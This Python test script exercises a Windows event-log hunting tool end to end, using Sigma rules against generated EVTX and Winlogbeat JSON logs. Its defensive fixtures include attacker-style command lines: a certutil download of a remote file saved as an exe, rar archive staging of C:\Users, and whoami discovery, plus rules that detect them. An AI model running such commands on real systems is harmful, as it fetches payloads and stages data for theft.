#!/usr/bin/env python3
"""plainsight hunt end to end: output formats parse back, exit codes, sorting,
--from/--to, --rule-id, --tags, --status, --min-level, thread independence,
and JSON-lines input (plainsight dump's layout and Winlogbeat's) giving the
same detections as the EVTX they describe.

Works on a fresh clone: the EVTX is written by the project's own evtxgen and
the rules are written here. With the shared corpus present it also checks,
on every EVTX-ATTACK-SAMPLES file with SigmaHQ's Windows rules, that hunting
the dumped JSON lines finds exactly what hunting the EVTX finds.
"""

import csv
import io
import json
import os
import sys
import tempfile
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pslib  # noqa: E402

COLUMNS = ["Timestamp", "Computer", "Channel", "EventID", "RecordID", "Level", "RuleTitle",
           "RuleID", "MitreTactics", "MitreTags", "Details", "EvtxFile"]

RULE_CERTUTIL = "11111111-0000-4000-8000-000000000001"
RULE_RAR = "11111111-0000-4000-8000-000000000002"
RULE_NETLOGON = "11111111-0000-4000-8000-000000000003"
RULE_WHOAMI = "11111111-0000-4000-8000-000000000004"

RULES = {
    "certutil.yml": """title: Certutil Download
id: %s
status: stable
level: high
tags: [attack.command-and-control, attack.t1105]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4688
    CommandLine|contains|all: [certutil, urlcache]
  condition: sel
""" % RULE_CERTUTIL,
    "rar.yml": """title: Archive Staging With Rar
id: %s
status: experimental
level: medium
tags: [attack.collection, attack.t1560.001]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4688
    NewProcessName|endswith: '\\\\rar.exe'
  condition: sel
""" % RULE_RAR,
    "netlogon.yml": """title: Network Logon (old)
id: %s
status: deprecated
level: low
tags: [attack.lateral_movement, attack.t1021]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4624
    LogonType: 3
  condition: sel
""" % RULE_NETLOGON,
    "whoami.yml": """title: Whoami
id: %s
status: test
level: critical
tags: [attack.discovery, attack.t1033]
logsource: {product: windows, service: security}
detection:
  sel:
    EventID: 4688
    CommandLine|contains: whoami
  condition: sel
""" % RULE_WHOAMI,
}

# (record id, time, computer, event id, process, command line); times out of
# order on purpose, so sorting is visible.
PROCESSES = [
    (1, "2024-05-03T09:00:00Z", "WS02.corp.example", "C:\\Windows\\System32\\certutil.exe",
     "certutil -urlcache -split -f http://198.51.100.7/a.txt a.exe"),
    (2, "2024-05-01T10:00:00.1234567Z", "WS01.corp.example", "C:\\Windows\\System32\\whoami.exe",
     "whoami /all"),
    (3, "2024-05-02T12:30:00Z", "WS01.corp.example", "C:\\Temp\\rar.exe",
     "rar a -hp secret C:\\Temp\\out.rar C:\\Users"),
    (4, "2024-05-02T12:00:00Z", "WS02.corp.example", "C:\\Windows\\System32\\notepad.exe",
     "notepad.exe"),
]
LOGON = (5, "2024-05-02T08:00:00Z", "DC01.corp.example")

SECURITY_GUID = "54849625-5478-4994-A5BA-3E3B0328C30D"


def evtxgen_description(fixture_dir):
    """Our records on the templates of the security_4688 fixture."""
    with open(os.path.join(fixture_dir, "security_4688.json")) as f:
        templates = json.load(f)["templates"]

    def system(eid, time, rid, computer, data):
        return ["Microsoft-Windows-Security-Auditing", SECURITY_GUID, eid, 2, 0, 13312, 0,
                "0x8020000000000000", time, rid, None, 4, 7512, "Security", computer, None,
                data]

    records = []
    for rid, time, computer, image, cmd in PROCESSES:
        data = {"type": "binxml", "template": "eventdata_4688",
                "values": ["S-1-5-21-1-2-3-1001", "alice", "0x3e7", "0x1a2c", image, "%%1936",
                           "0x9f0", cmd]}
        records.append({"id": rid, "time": time, "template": "system",
                        "values": system(4688, time, rid, computer, data)})
    rid, time, computer = LOGON
    data = {"type": "binxml", "template": "eventdata_4624",
            "values": ["S-1-5-21-1-2-3-500", "Administrator", 3,
                       "00000000-0000-0000-0000-000000000000", "10.0.0.66", "49823"]}
    records.append({"id": rid, "time": time, "template": "system",
                    "values": system(4624, time, rid, computer, data)})
    return {"templates": templates, "records": records}


def winlogbeat_lines():
    """The same events as Winlogbeat ships them (strings, braces, extra keys)."""
    lines = []
    for rid, time, computer, image, cmd in PROCESSES:
        lines.append({"@timestamp": time, "message": "A new process has been created.",
                      "host": {"name": computer.split(".")[0]},
                      "winlog": {"channel": "Security", "computer_name": computer,
                                 "event_id": "4688", "record_id": rid,
                                 "provider_name": "Microsoft-Windows-Security-Auditing",
                                 "provider_guid": "{%s}" % SECURITY_GUID,
                                 "event_data": {"SubjectUserName": "alice",
                                                "NewProcessName": image, "CommandLine": cmd}}})
    rid, time, computer = LOGON
    lines.append({"@timestamp": time, "winlog": {
        "channel": "Security", "computer_name": computer, "event_id": 4624, "record_id": rid,
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "event_data": {"TargetUserName": "Administrator", "LogonType": "3"}}})
    return "".join(json.dumps(l) + "\n" for l in lines)


def main():
    args = pslib.parse_args(__doc__)
    exe = os.path.abspath(args.plainsight)
    evtxgen = os.path.join(args.build_dir, "tools", "evtxgen", "evtxgen")
    here = os.path.dirname(os.path.abspath(__file__))
    fixtures = os.path.join(here, "..", "fixtures", "evtxgen")
    if not os.path.exists(evtxgen):
        pslib.skip("evtxgen not built at %s" % evtxgen)
    c = pslib.Checker(args.verbose)
    with tempfile.TemporaryDirectory(prefix="ps_hunt_") as tmp:
        rules = os.path.join(tmp, "rules")
        os.mkdir(rules)
        for name, text in RULES.items():
            with open(os.path.join(rules, name), "w") as f:
                f.write(text)
        desc = os.path.join(tmp, "desc.json")
        with open(desc, "w") as f:
            json.dump(evtxgen_description(fixtures), f)
        logs = os.path.join(tmp, "logs")
        os.mkdir(logs)
        evtx = os.path.join(logs, "Security.evtx")
        rc, _, err = pslib.run([evtxgen, desc, evtx])
        if rc != 0:
            print("FAIL evtxgen: " + pslib.last_line(err))
            pslib.finish(0, 1)

        def hunt(*extra, inputs=None):
            cmd = [exe, "hunt", "-r", rules] + list(extra) + (inputs or [evtx])
            return pslib.run(cmd, timeout=600)

        def rows_csv(*extra, inputs=None):
            rc, out, err = hunt("-f", "csv", *extra, inputs=inputs)
            text = out.decode("utf-8")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            return rc, rows, err

        def rows_jsonl(*extra, inputs=None):
            rc, out, err = hunt("-f", "jsonl", *extra, inputs=inputs)
            return rc, [json.loads(l) for l in out.decode("utf-8").splitlines()], err

        # CSV: header, one row per detection, RFC 4180 line ends, sorted by time.
        rc, rows, err = rows_csv()
        c.check("csv exit 1 with detections", rc == 1, "rc=%s %s" % (rc, pslib.last_line(err)))
        c.check("csv header", rows and rows[0] == COLUMNS, rows[:1])
        body = rows[1:]
        ids = [r[7] for r in body]
        c.check("default status skips deprecated", sorted(ids) ==
                sorted([RULE_CERTUTIL, RULE_RAR, RULE_WHOAMI]), ids)
        c.check("csv sorted by time", [r[0] for r in body] == sorted(r[0] for r in body),
                [r[0] for r in body])
        c.check("csv first row", body and body[0][1] == "WS01.corp.example" and
                body[0][0] == "2024-05-01T10:00:00.123Z" and body[0][5] == "critical" and
                body[0][4] == "2" and body[0][3] == "4688" and body[0][8] == "discovery" and
                body[0][9] == "t1033" and body[0][11] == evtx, body[:1])
        c.check("csv details", any("certutil -urlcache" in r[10] for r in body))

        # Details: the built-in table's key fields first (a 4688's command
        # line); --details reads another table; a bad one stops the hunt with
        # its file, line and reason.
        cert = [r for r in body if r[7] == RULE_CERTUTIL]
        c.check("details lead with the command line",
                cert and cert[0][10].startswith("CommandLine: certutil"), cert[:1])
        table = os.path.join(tmp, "details.yml")
        with open(table, "w") as f:
            f.write("Security:\n  4688: [NewProcessName]\n")
        rc, own, err = rows_csv("--details", table)
        cert = [r for r in own[1:] if r[7] == RULE_CERTUTIL]
        c.check("--details table", rc == 1 and cert and
                cert[0][10].startswith("NewProcessName: ") and "\u00a6" not in cert[0][10],
                cert[:1] or pslib.last_line(err))
        rc, every, err = rows_csv("--details", "all")
        cert = [r for r in every[1:] if r[7] == RULE_CERTUTIL]
        c.check("--details all: every data field in the event's order",
                rc == 1 and cert and not cert[0][10].startswith("CommandLine: ") and
                "CommandLine: certutil" in cert[0][10], cert[:1] or pslib.last_line(err))
        with open(table, "w") as f:
            f.write("Security:\n  4688: NewProcessName\n")
        rc, _, err = hunt("--details", table)
        c.check("bad --details table: exit 2, file and line", rc == 2 and
                ("%s:2: needs a list of field names" % table).encode() in err,
                "rc=%s %s" % (rc, pslib.last_line(err)))
        _, raw, _ = hunt("-f", "csv")
        c.check("csv CRLF line ends", raw.count(b"\r\n") == len(rows), raw[:200])

        # JSONL: exactly the documented keys, numbers for EventID/RecordID.
        rc, objs, _ = rows_jsonl()
        c.check("jsonl exit 1", rc == 1)
        c.check("jsonl keys", objs and all(list(o.keys()) == COLUMNS for o in objs),
                objs[:1])
        c.check("jsonl matches csv", [(o["Timestamp"], o["RuleID"]) for o in objs] ==
                [(r[0], r[7]) for r in body])
        c.check("jsonl numbers", objs and objs[0]["EventID"] == 4688 and objs[0]["RecordID"] == 2)

        # Table: readable, no colour codes when not a terminal.
        rc, out, _ = hunt("-f", "table")
        c.check("table", rc == 1 and b"Certutil Download" in out and b"\033[" not in out,
                out[:200])

        # Filters.
        rc, rows, _ = rows_csv("--rule-id", RULE_RAR)
        c.check("--rule-id", rc == 1 and [r[7] for r in rows[1:]] == [RULE_RAR], rows)
        rc, rows, _ = rows_csv("--rule-id", RULE_RAR + "," + RULE_CERTUTIL.upper())
        c.check("--rule-id list, any case", sorted(r[7] for r in rows[1:]) ==
                sorted([RULE_RAR, RULE_CERTUTIL]), rows)
        rc, rows, _ = rows_csv("--rule-id", "00000000-0000-0000-0000-000000000000")
        c.check("--rule-id unknown: exit 0, header only", rc == 0 and len(rows) == 1, rc)
        rc, rows, _ = rows_csv("--tags", "t1560")
        c.check("--tags technique selects sub-techniques", [r[7] for r in rows[1:]] ==
                [RULE_RAR], rows)
        rc, rows, _ = rows_csv("--tags", "attack.t1105", "--tags", "discovery")
        c.check("--tags repeated", sorted(r[7] for r in rows[1:]) ==
                sorted([RULE_CERTUTIL, RULE_WHOAMI]), rows)
        rc, rows, _ = rows_csv("--tags", "lateral-movement")
        c.check("--tags deprecated rule stays off", rc == 0 and len(rows) == 1, rows)
        rc, rows, _ = rows_csv("--tags", "attack.lateral-movement", "--status", "deprecated")
        c.check("--status deprecated, - and _ alike", rc == 1 and [r[7] for r in rows[1:]] ==
                [RULE_NETLOGON] and rows[1][1] == "DC01.corp.example", rows)
        rc, rows, _ = rows_csv("--status", "all")
        c.check("--status all", len(rows) == 5, len(rows))
        rc, rows, _ = rows_csv("--status", "experimental,test")
        c.check("--status list", sorted(r[7] for r in rows[1:]) ==
                sorted([RULE_RAR, RULE_WHOAMI]), rows)
        rc, rows, _ = rows_csv("--min-level", "high")
        c.check("--min-level", sorted(r[5] for r in rows[1:]) == ["critical", "high"], rows)
        rc, rows, _ = rows_csv("--from", "2024-05-02", "--to", "2024-05-02")
        c.check("--from/--to a whole day", [r[7] for r in rows[1:]] == [RULE_RAR], rows)
        rc, rows, _ = rows_csv("--from", "2024-05-02T12:30:00Z")
        c.check("--from is inclusive", [r[7] for r in rows[1:]] == [RULE_RAR, RULE_CERTUTIL],
                rows)
        rc, rows, _ = rows_csv("--to", "2024-05-01T12:01:00+02:00")
        c.check("--to with a zone", [r[7] for r in rows[1:]] == [RULE_WHOAMI], rows)
        rc, rows, _ = rows_csv("--from", "2030-01-01")
        c.check("--from after everything: exit 0", rc == 0 and len(rows) == 1, rc)

        # Usage errors and unreadable inputs: exit 2.
        for bad in (["--format", "xml"], ["--min-level", "severe"], ["--from", "yesterday"],
                    ["--no-such-option"]):
            rc, _, err = hunt(*bad)
            c.check("exit 2 for " + " ".join(bad), rc == 2 and err, rc)
        rc, _, err = hunt(inputs=[os.path.join(tmp, "missing.evtx")])
        c.check("exit 2 for a missing input", rc == 2 and b"missing.evtx" in err, err[-200:])
        # A FIFO named like a log is refused, not waited on (telling EVTX
        # from JSON by the first byte must not block on it either).
        fifo = os.path.join(tmp, "pipe.evtx")
        os.mkfifo(fifo)
        rc, _, err = pslib.run([exe, "hunt", "-r", rules, fifo], timeout=60)
        c.check("a FIFO input: exit 2, not a hang", rc == 2 and b"not a regular file" in err,
                (rc, err[-200:]))
        os.unlink(fifo)
        rc, _, _ = pslib.run([exe, "hunt", "--help"])
        c.check("--help exit 0", rc == 0)
        rc, out, err = hunt("-q", "-o", os.path.join(tmp, "out.csv"))
        c.check("-o and -q", rc == 1 and out == b"" and err == b"" and
                open(os.path.join(tmp, "out.csv")).read().startswith("Timestamp,"), err)
        rc, _, err = hunt("-o", os.path.join(tmp, "no", "such", "dir.csv"))
        c.check("exit 2 when -o cannot be written", rc == 2, rc)
        rc, _, err = hunt()
        c.check("summary on stderr", b"by level: critical 1, high 1, medium 1" in err and
                b"first seen 2024-05-01T10:00:00.123Z, last seen 2024-05-03T09:00:00.000Z"
                in err and b"hosts: 2" in err, err.decode("utf-8", "replace"))

        # Same output whatever the thread count.
        _, one, _ = hunt("-f", "jsonl", "-t", "1")
        _, two, _ = hunt("-f", "jsonl", "-t", "2")
        c.check("threads 1 == 2", one == two)

        # JSON lines from plainsight dump give the same detections.
        def same_detections(a, b):
            strip = lambda rows: [{k: v for k, v in o.items() if k != "EvtxFile"} for o in rows]
            return strip(a) == strip(b)

        jsonl = os.path.join(tmp, "security.jsonl")
        rc, _, err = pslib.run([exe, "dump", "-o", jsonl, evtx])
        _, from_evtx, _ = rows_jsonl("--status", "all")
        _, from_json, err = rows_jsonl("--status", "all", inputs=[jsonl])
        c.check("dumped JSONL == EVTX", from_json and same_detections(from_evtx, from_json),
                (from_json, err))
        # Reading leaves the evidence as it was: bytes, and times too. The
        # access time is set three days back, so that a file system mounted
        # relatime would update it on a read without O_NOATIME.
        # The test reads the bytes with O_NOATIME too (it owns the files).
        def state(path):
            st = os.stat(path)
            fd = os.open(path, os.O_RDONLY | os.O_NOATIME)
            with os.fdopen(fd, "rb") as f:
                data = f.read()
            return data, st.st_atime_ns, st.st_mtime_ns, st.st_ctime_ns

        old = 1_600_000_000
        for path in (evtx, jsonl):
            os.utime(path, (old, old))
        before = {p: state(p) for p in (evtx, jsonl)}
        pslib.run([exe, "dump", "-q", "-o", os.devnull, evtx])
        hunt("-q", "-o", os.devnull, inputs=[evtx, jsonl])
        after = {p: state(p) for p in (evtx, jsonl)}
        c.check("evidence untouched by dump and hunt (bytes, access and change times)",
                before == after,
                [(p, before[p][1:], after[p][1:]) for p in before if before[p] != after[p]])
        # JSON lines stream through a FIFO whose name says JSON (one named
        # like an EVTX is refused: checked beside the missing input).
        stream = os.path.join(tmp, "stream.jsonl")
        os.mkfifo(stream)

        def feed():
            with open(jsonl, "rb") as src, open(stream, "wb") as dst:
                dst.write(src.read())

        feeder = threading.Thread(target=feed, daemon=True)  # never holds the test up
        feeder.start()
        rc, from_fifo, err = rows_jsonl("--status", "all", inputs=[stream])
        feeder.join(60)
        c.check("JSON lines through a FIFO named *.jsonl", rc == 1 and from_fifo and
                same_detections(from_evtx, from_fifo), (rc, err[-200:]))
        os.unlink(stream)
        pretty = os.path.join(tmp, "security.json")
        pslib.run([exe, "dump", "--format", "json", "-o", pretty, evtx])
        _, from_pretty, _ = rows_jsonl("--status", "all", inputs=[pretty])
        c.check("dumped JSON array == EVTX", same_detections(from_evtx, from_pretty))
        beat = os.path.join(tmp, "winlogbeat.ndjson")
        with open(beat, "w") as f:
            f.write(winlogbeat_lines())
        _, from_beat, err = rows_jsonl("--status", "all", inputs=[beat])
        key = lambda o: (o["Timestamp"], o["Computer"], o["EventID"], o["RecordID"], o["RuleID"])
        c.check("Winlogbeat JSON == EVTX", [key(o) for o in from_beat] ==
                [key(o) for o in from_evtx], (from_beat, err))

        # Details stay one line and hide nothing: control bytes, NUL among
        # them, become spaces, and what follows a NUL is shown.
        hidden = os.path.join(tmp, "hidden.jsonl")
        with open(hidden, "w") as f:
            f.write(json.dumps({"Event": {
                "System": {"EventID": 4688, "Channel": "Security", "Computer": "pc1",
                           "EventRecordID": 7,
                           "TimeCreated": {"#attributes": {
                               "SystemTime": "2018-03-01T10:00:00.000000Z"}}},
                "EventData": {"CommandLine": "certutil -urlcache\u0000 -f http://x/a.exe"
                                             "\r\nnext"}}}) + "\n")
        _, objs, err = rows_jsonl("--rule-id", RULE_CERTUTIL, inputs=[hidden])
        c.check("details show text after a NUL, on one line",
                len(objs) == 1 and objs[0]["Details"] ==
                "CommandLine: certutil -urlcache  -f http://x/a.exe  next", (objs, err))

        # A directory with both kinds: each file hunted once, bad lines reported.
        os.rename(jsonl, os.path.join(logs, "security.jsonl"))
        with open(os.path.join(logs, "broken.jsonl"), "w") as f:
            f.write('{"Event": {"System": {"EventID": 1}}}\nnot json\n')
        rc, both, err = rows_jsonl("--status", "all", inputs=[logs])
        c.check("directory: EVTX + JSONL", rc == 1 and len(both) == 2 * len(from_evtx),
                len(both))
        c.check("bad line reported with file and line", b"broken.jsonl:2:" in err, err[-300:])

        # With the shared corpus: every EVTX file of it (attack samples,
        # template-less exported logs, UInt64 values past INT64_MAX) hunted as
        # EVTX and as plainsight's own JSON export: the same detections.
        sigma = os.path.join(args.corpus, "sigma", "rules", "windows")
        samples = sorted(os.path.join(d, f)
                         for sub in ("evtx-attack-samples", "hayabusa-sample-evtx",
                                     "sigma-regression")
                         for d, _, fs in os.walk(os.path.join(args.corpus, sub))
                         for f in fs if f.endswith(".evtx"))
        if samples and os.path.isdir(sigma):
            dumped = os.path.join(tmp, "samples.jsonl")
            pslib.run([exe, "dump", "-q", "-o", dumped] + samples, timeout=600)
            rc1, a, _ = pslib.run([exe, "hunt", "-q", "-r", sigma, "-f", "jsonl"] + samples,
                                  timeout=600)
            rc2, b, _ = pslib.run([exe, "hunt", "-q", "-r", sigma, "-f", "jsonl", dumped],
                                  timeout=600)
            la = [json.loads(l) for l in a.decode().splitlines()]
            lb = [json.loads(l) for l in b.decode().splitlines()]
            skey = lambda o: (o["Timestamp"], o["Computer"], o["Channel"], o["EventID"],
                              o["RecordID"], o["RuleID"], o["Details"])
            c.check("corpus (%d EVTX files): JSONL == EVTX (%d detections)"
                    % (len(samples), len(la)),
                    rc1 == rc2 == 1 and sorted(map(skey, la)) == sorted(map(skey, lb)),
                    (len(la), len(lb)))
        elif args.verbose:
            print("note: shared corpus absent; attack-sample comparison not run")
    pslib.finish(c.passed, c.failed)


if __name__ == "__main__":
    main()
